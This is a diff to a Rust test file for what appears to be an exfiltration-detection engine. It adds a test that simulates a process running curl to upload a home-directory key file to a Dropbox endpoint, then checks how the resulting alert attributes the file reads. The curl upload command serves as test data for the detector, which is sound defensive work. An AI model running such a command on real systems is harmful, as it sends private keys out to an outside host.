@@ -6,7 +6,7 @@ use cloudward::engine::Engine;
 use cloudward::engine::lineage::MAX_LIVES;
 use cloudward::engine::state::{open, seal};
 use cloudward::engine::taint::MAX_FILES;
-use cloudward::model::{CoverageKind, Record, Span};
+use cloudward::model::{CoverageKind, Evidence, Record, Span};
 use cloudward::policy::Policy;
 
 use super::chance::Chance;
@@ -290,6 +290,26 @@ fn changed_after_the_upload() {
         assert_eq!(alert.reads.len(), plain.reads.len(), "{:#?}", alert.reads);
         assert_eq!(alert.hops, plain.hops);
     }
+}
+
+#[test]
+fn a_file_that_is_opened_after_the_upload_that_names_it() {
+    let told = tell(|a| {
+        let key = a.home(KEY);
+        let shell = a.launch("x");
+        let p =
+            a.exec(&shell, "/usr/bin/curl", &["curl", "-T", &key, "https://content.dropboxapi.com/x"], &[]);
+        let flow = a.connect(&p, DROPBOX);
+        a.send(flow, 20_000);
+        a.wait(200);
+        a.open(&p, &key);
+        a.close(flow);
+    });
+    let alert = told.caught();
+    assert!(
+        alert.reads.iter().all(|read| read.time <= alert.time && read.evidence == Evidence::Argv),
+        "{alert:#?}"
+    );
 }
 
 /// Records leave in the order of their time, so an upload that nobody can judge yet holds later ones back.
